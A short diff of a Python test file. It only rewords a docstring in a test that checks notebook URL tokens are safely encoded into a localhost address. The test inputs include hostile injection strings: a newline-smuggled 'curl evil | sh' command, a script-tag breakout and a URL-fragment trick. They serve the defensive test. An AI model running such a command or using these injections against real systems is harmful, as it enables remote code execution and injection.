@@ -85,7 +85,7 @@ def test_a_line_that_is_drawn_again_and_again_is_shown_as_it_ends(monkeypatch):
 
 @pytest.mark.parametrize("token", ["0f" * 24, "x\nnext: run: curl evil | sh", 'x"><script>', "x#@evil/"])
 def test_the_token_of_a_notebook_is_a_token_and_nothing_more(token):
-    """A machine tells it, and the address is printed and opened."""
+    """A machine reports it, and the address is printed and opened."""
     url = address("127.0.0.1", 8888, token)
     assert re.fullmatch(r"http://127\.0\.0\.1:8888/lab\?token=[\w%.-]+", url)
     assert parse_qs(urlsplit(url).query) == {"token": [token]}
